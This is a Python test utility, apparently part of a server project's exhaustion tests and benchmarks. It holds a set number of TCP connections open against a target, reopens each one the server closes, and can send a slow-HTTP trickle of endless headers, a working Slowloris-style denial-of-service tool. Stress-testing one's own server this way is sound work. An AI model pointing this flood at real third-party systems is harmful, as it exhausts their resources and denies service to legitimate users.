#!/usr/bin/env python3
"""An attacker's connections, held open (issue 13): used by tests/e2e/test_exhaustion.py in process and by
bench/exhaustion as a process of its own (`flood.py SOURCE HOST:PORT COUNT [--slow-http] [--reopen-after S]`,
until SIGTERM).

Every connection the server closes is opened again `reopen_after` seconds later (default 1 s; 0: at once, a
connection flood that also spends the attacker's CPU), so the server stays under the full count."""
import selectors
import signal
import socket
import sys
import threading
import time

SLOW_HTTP_OPENING = b"POST / HTTP/1.1\r\nHost: kms\r\n"
SLOW_HTTP_TRICKLE = b"X-A: b\r\n"


class Flood:
    """`count` TCP connections from `source` to `target` (host, port), held open: every one the server closes
    is opened again; `opening`, when given, is sent on each new connection, and `trickle` every second after
    (a header that never ends)."""

    def __init__(self, source, target, count, opening=b"", trickle=b"", reopen_after=1.0):
        self.source, self.target, self.count = source, target, count
        self.opening, self.trickle, self.reopen_after = opening, trickle, reopen_after
        self.due = []  # monotonic times at which a closed connection is opened again
        self.selector = selectors.DefaultSelector()
        self.reopened = 0
        self.stopping = threading.Event()
        self.thread = threading.Thread(target=self.run, daemon=True)

    def connect(self):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.bind((self.source, 0))
        sock.setblocking(False)
        sock.connect_ex(self.target)
        self.selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE, data=[False])

    def start(self):
        for _ in range(self.count):
            self.connect()
        self.thread.start()
        return self

    def run(self):
        last_trickle = time.monotonic()
        while not self.stopping.is_set():
            for key, events in self.selector.select(timeout=0.2):
                sock, sent = key.fileobj, key.data
                if events & selectors.EVENT_READ:
                    try:
                        gone = sock.recv(4096) == b""
                    except (BlockingIOError, InterruptedError):
                        gone = False
                    except OSError:
                        gone = True
                    if gone:
                        self.selector.unregister(sock)
                        sock.close()
                        self.reopened += 1
                        self.due.append(time.monotonic() + self.reopen_after)
                        continue
                if events & selectors.EVENT_WRITE and not sent[0]:
                    sent[0] = True
                    try:
                        if self.opening:
                            sock.send(self.opening)
                    except OSError:
                        pass
                    self.selector.modify(sock, selectors.EVENT_READ, data=sent)
            now = time.monotonic()
            while self.due and self.due[0] <= now:
                self.due.pop(0)
                self.connect()
            if self.trickle and time.monotonic() - last_trickle >= 1:
                last_trickle = time.monotonic()
                for key in list(self.selector.get_map().values()):
                    try:
                        key.fileobj.send(self.trickle)
                    except OSError:
                        pass
            time.sleep(0.01)  # an attacker as fast as it needs to be, leaving the test's two cores room

    def stop(self):
        self.stopping.set()
        self.thread.join(timeout=10)
        for key in list(self.selector.get_map().values()):
            key.fileobj.close()
        self.selector.close()

    @property
    def alive(self):
        return self.thread.is_alive()


def main():
    source, target, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
    host, port = target.rsplit(":", 1)
    options = sys.argv[4:]
    slow = "--slow-http" in options
    reopen_after = float(options[options.index("--reopen-after") + 1]) if "--reopen-after" in options else 1.0
    flood = Flood(source, (host, int(port)), count, opening=SLOW_HTTP_OPENING if slow else b"",
                  trickle=SLOW_HTTP_TRICKLE if slow else b"", reopen_after=reopen_after)
    stopping = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stopping.set())
    flood.start()
    print("holding %d connections to %s" % (count, target), flush=True)
    stopping.wait()
    flood.stop()
    print("reopened %d" % flood.reopened, flush=True)


if __name__ == "__main__":
    main()
